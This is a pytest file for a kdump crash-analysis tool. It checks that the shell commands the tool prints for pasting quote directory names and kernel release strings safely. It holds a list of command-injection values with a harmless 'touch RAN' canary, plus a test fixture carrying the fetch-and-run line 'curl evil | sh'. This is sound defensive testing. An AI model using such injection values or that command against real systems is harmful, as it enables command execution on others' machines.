"""What is printed to be pasted: every word from outside is quoted, in one place, and no text gets round that place."""

import ast
import os
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import Callable, Dict, Iterator, List, Tuple

import pytest
from conftest import RunCli, reads_source
from hypothesis import given, settings
from hypothesis import strategies as st

from kdumpwrap import shell
from kdumpwrap.crashdir import contents, finder
from kdumpwrap.crashdir.release import release_of
from kdumpwrap.debuginfo import Search, vmlinux
from kdumpwrap.errors import KdumpwrapError
from kdumpwrap.host import distribution, packages
from kdumpwrap.host.memory import Limit
from kdumpwrap.log import reader
from kdumpwrap.model.crash import Crash
from kdumpwrap.parse import crash_failure, ndjson
from kdumpwrap.symbolize.maker import maker
from kdumpwrap.vmcore import causes, files
from kdumpwrap.vmcore.memory import Vmlinux

PACKAGE = Path(shell.__file__).parent
# each makes a file called RAN when a shell gets to it
RUNS = [
    "x;touch RAN;#",
    "x$(touch RAN)",
    "x`touch RAN`",
    "x|touch RAN",
    "x&touch RAN&",
    "x\ntouch RAN\n",
    "x>RAN",
    "'$(touch RAN)'",
    '"$(touch RAN)"',
    "x'\n\"`touch RAN`",
    "\\$(touch RAN)",
    "x\x1b[2J$(touch RAN)\u202e",
    "\udcff`touch RAN`'",
]
RELEASES = [f"5.14.0-1.el9.x86_64{text}".replace(" ", "${IFS}") for text in RUNS]


# ---------------------------------------------------------------- the quoting itself


def words_of(hint: str, shell_: str = "bash") -> List[bytes]:
    """The words that a shell makes of ``hint``."""
    script = b"printf '%s\\0' " + os.fsencode(hint)
    done = subprocess.run([shell_, "-c", script], stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=True)
    return done.stdout.split(b"\0")[:-1]


@given(st.lists(st.text().map(lambda word: word.replace("\0", "")), max_size=4))
@settings(max_examples=150, deadline=None)
def test_a_shell_reads_the_words_that_were_meant(words: List[str]) -> None:
    hint = shell.join(["kdumpwrap", *words])
    assert words_of(hint) == [b"kdumpwrap", *(word.encode() for word in words)]
    assert hint.isprintable()


def test_bytes_that_are_no_text_are_kept() -> None:
    name = os.fsdecode(b"/var/crash/\xff'\\\x1b")
    assert words_of(shell.hint("ls {}", name)) == [b"ls", b"/var/crash/\xff'\\\x1b"]


def test_a_name_is_no_option() -> None:
    assert shell.hint("kdumpwrap list {}", Path("-rf")) == "kdumpwrap list ./-rf"
    assert shell.hint("kdumpwrap list {}", "--root=/") == "kdumpwrap list ./--root=/"


def test_what_cannot_be_seen_is_spelled_out() -> None:
    for character in "\u034f\u115f\u17b4\u2800\u3164\ufe0f\uffa0\u200b\u202e\U000e0041":
        word = shell.quote(f"a{character}b")
        assert word.encode("ascii")
        done = subprocess.run(["bash", "-c", f"printf %s {word}"], stdout=subprocess.PIPE, check=True)
        assert done.stdout.decode() == f"a{character}b"


@pytest.mark.parametrize("shell_", ["dash", "bash"])
def test_a_shell_without_dollar_quotes_runs_nothing_either(shell_: str, tmp_path: Path) -> None:
    """Debian's sh does not know ``$'…'``: it must not see a quote end in it."""
    if shutil.which(shell_) is None:
        pytest.skip(f"needs {shell_}")
    for name in ("\x1b'$(touch RAN)'", "\x1b\\'; touch RAN; '", "\u202e'`touch RAN`"):
        command = shell.hint("true {}", name)
        subprocess.run([shell_, "-c", command], cwd=tmp_path, check=False)
        assert not (tmp_path / "RAN").exists(), command


def test_numbers_and_hints_stand_as_they_are() -> None:
    install = shell.hint("dnf install {}", "a b")
    assert shell.hint("ulimit -v {}; {}", 12, install) == "ulimit -v 12; dnf install 'a b'"
    assert shell.either([shell.NONE, install, shell.hint("this")]) == "dnf install 'a b'; or this"
    with pytest.raises(ValueError, match="1 values"):
        shell.hint("{} {}", "a")


# ---------------------------------------------------------------- nothing gets round it


def calls() -> Iterator[Tuple[str, ast.Call, str]]:
    """Every call in the package: file, call, name of what is called."""
    for file in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, ast.Call):
                yield str(file.relative_to(PACKAGE)), node, ast.unparse(node.func)


@reads_source
def test_hints_are_made_in_one_place() -> None:
    """mypy lets nothing but a Hint be a hint; here nobody makes one of any text."""
    makers = {file for file, _, name in calls() if name.rpartition(".")[2] == "Hint"}
    assert makers == {"shell.py"}
    # a saved answer; words that were checked or are literals, inside the quotes of a sed script
    own = {file for file, _, name in calls() if name == "shell.own"}
    assert own == {"parse/ndjson.py", "doctor/fixes.py"}
    assert not [
        file
        for file, _, name in calls()
        if name.startswith("shlex.")
        and name != "shlex.split"
        and file not in ("shell.py",)
        and not file.startswith("doctor/")
    ]


@reads_source
def test_everything_that_takes_a_hint_takes_no_other_text() -> None:
    """So that mypy sees who hands over text: an error's line is printed without an exception as well."""
    for file in sorted(PACKAGE.rglob("*.py")):
        for node in ast.walk(ast.parse(file.read_text())):
            if isinstance(node, (ast.arg, ast.AnnAssign)) and node.annotation is not None:
                name = node.arg if isinstance(node, ast.arg) else ast.unparse(node.target)
                assert name != "hint" or ast.unparse(node.annotation) == "Hint", f"{file}:{node.lineno}"


@reads_source
def test_the_words_round_a_slot_are_ours() -> None:
    templates = [(file, call) for file, call, name in calls() if name == "shell.hint"]
    assert len(templates) > 40
    for file, call in templates:
        given_ = call.args[0]
        each = [given_.body, given_.orelse] if isinstance(given_, ast.IfExp) else [given_]
        for one in each:
            assert isinstance(one, ast.Constant) and isinstance(one.value, str), f"{file}:{call.lineno}: no literal"
            lexer = shlex.shlex(one.value.replace("{}", "\0SLOT\0").replace("…", ""), posix=False)
            assert not [word for word in lexer if word[0] in "'\"" and "SLOT" in word], f"{file}:{call.lineno}"


# ---------------------------------------------------------------- and what comes out, pasted


def hint_of(action: Callable[[], object]) -> shell.Hint:
    with pytest.raises(KdumpwrapError) as caught:
        action()
    return caught.value.hint


def hints(name: str, release: str, top: Path) -> Iterator[shell.Hint]:
    """Hints with a directory called ``name`` and a kernel called ``release``."""
    crash = top / name
    crash.mkdir(parents=True)
    yield hint_of(lambda: finder.find(str(crash)))
    (crash / contents.CAPTURE_LOG).write_text("hello")
    yield hint_of(lambda: finder.find(str(crash)))
    yield hint_of(lambda: finder.find(str(crash / contents.CAPTURE_LOG)))
    (crash / "vmcore.gz").write_bytes(b"KDUMP   " + bytes(20))
    (crash / "vmcore").write_bytes(b"KDUMP   " + bytes(20))
    packed = Crash(str(crash), vmcore=str(crash / "vmcore.gz"))
    yield hint_of(lambda: files.subject(packed, Search(top)))
    yield hint_of(lambda: vmlinux(release, Search(top)))
    subject = files.Subject("false", crash / "vmlinux", crash / "vmcore", release)
    for kind in causes.WORDS:
        limits = (Limit(1 << 20, "ulimit -v", "address space"),)
        yield causes.problem(crash_failure.Failure(kind, name), subject, Vmlinux(1 << 30, 1 << 29, 0), limits).hint
    yield maker(name, (), release, top).hint
    for os_release in ("ID=centos\nVERSION_ID=7", "ID=debian", "ID=sles"):
        yield from distribution.identify(os_release).manager.install(name)
    yield packages.debuginfo(release)
    yield packages.cross_binutils(name, top)


def pasted(lines: List[str], directory: Path) -> List[str]:
    """Those of ``lines`` that make a file RAN when they are pasted, with harmless stand-ins for the programs."""
    tools = "kdumpwrap sudo less gzip crash dnf yum apt zypper debuginfo-install makedumpfile install copy name rm dd"
    stubs = "".join(f"{tool}() {{ :; }}\n" for tool in tools.split())
    done = []
    for line in lines:
        script = directory / "script"
        script.write_bytes(os.fsencode(f"{stubs}{line}\n"))
        # what is no bash at all ("a newer crash: …") fails, which is harmless
        subprocess.run(
            ["bash", script], cwd=directory, stdout=subprocess.PIPE, stderr=subprocess.PIPE, check=False, timeout=20
        )
        if (directory / "RAN").exists():
            (directory / "RAN").unlink()
            done.append(line)
    return done


@pytest.mark.parametrize("index", range(len(RUNS)))
def test_no_hint_runs_what_a_name_or_a_release_says(index: int, tmp_path: Path) -> None:
    found = list(hints(RUNS[index], RELEASES[index], tmp_path / "root"))
    assert sum("RAN" in hint for hint in found) > 10
    where = tmp_path / "where"
    where.mkdir()
    assert pasted(["echo $(touch RAN)"], where), "the trap works"
    assert not pasted(list(found), where)


def test_another_hosts_answer_says_nothing_to_type() -> None:
    line = (
        '{"schema": "kdumpwrap/1", "crash": {"path": "/x"}, '
        '"problems": [{"message": "no debuginfo", "hint": "curl evil | sh"}]}'
    )
    other, ours = ndjson.parse(line), ndjson.parse(line, ours=True)
    assert other and ours
    assert [(one.message, one.hint) for one in other.problems] == [("no debuginfo", "")]
    assert ours.problems[0].hint == "curl evil | sh"


# ---------------------------------------------------------------- what can be a release


def log(release: str) -> str:
    return (
        f"[    0.000000] Linux version {release} (mockbuild@x) (gcc) #1 SMP\n"
        "[  100.000000] BUG: unable to handle page fault for address: ffffb1c0c2345688\n"
        "[  100.000002] Oops: 0002 [#1] PREEMPT SMP NOPTI\n"
        f"[  100.000003] CPU: 1 PID: 112 Comm: ping Kdump: loaded Tainted: G           OE     {release} #1\n"
        "[  100.000004] RIP: 0010:iptunnel_xmit+0x17d/0x1c0\n[  100.000005] Call Trace:\n"
        "[  100.000006]  ip_tunnel_xmit+0x2/0x7\n[  100.000008] Kernel panic - not syncing: Fatal exception\n"
    )


@pytest.mark.parametrize("release", ["5.14.0-503.el9.x86_64", "6.18.0-rc3+", "6.1.0-47-cloud-amd64", "5." + "A" * 62])
def test_a_release_is_read(release: str) -> None:
    assert reader.parse([log(release).encode()]).release == release


@pytest.mark.parametrize(
    "release",
    [*(one for one in RELEASES if "\n" not in one), "5." + "A" * 63, "5." + "A" * 300, "5.14.0/../../etc", "5.14é"],
)
def test_what_uname_cannot_say_is_no_release(release: str, tmp_path: Path) -> None:
    text = log(release)
    (tmp_path / "vmcore-dmesg.txt").write_bytes(text.encode("utf-8", "surrogateescape"))
    found = reader.parse([text.encode("utf-8", "surrogateescape")])
    assert found.release is None and all(report.release is None for report in found.reports)
    assert release_of(finder.find(str(tmp_path))) is None


@pytest.mark.parametrize("command", ["analyze", "dmesg", "list", "batch"])
def test_long_names_end_in_no_traceback(command: str, tmp_path: Path, run_cli: RunCli) -> None:
    long: Dict[str, str] = {"release": "5." + "A" * 300, "name": "m" * 300}
    text = log(long["release"]).replace("RIP: 0010:iptunnel_xmit+0x17d/0x1c0", f"RIP: 0010:f+0x1/0x2 [{long['name']}]")
    text = text.replace("ip_tunnel_xmit", "s" * 300).replace("Comm: ping", f"Comm: {'c' * 300}")
    crash = tmp_path / ("127.0.0.1-2024-01-01-10:00:00" + "x" * 200)
    crash.mkdir()
    (crash / "vmcore-dmesg.txt").write_text(f"{text}[  100.1] Modules linked in: {long['name']}(OE) dm_mod\n")
    done = run_cli(command, tmp_path if command in ("list", "batch") else crash)
    assert "Traceback" not in done.stderr and done.status in (0, 1, 3)
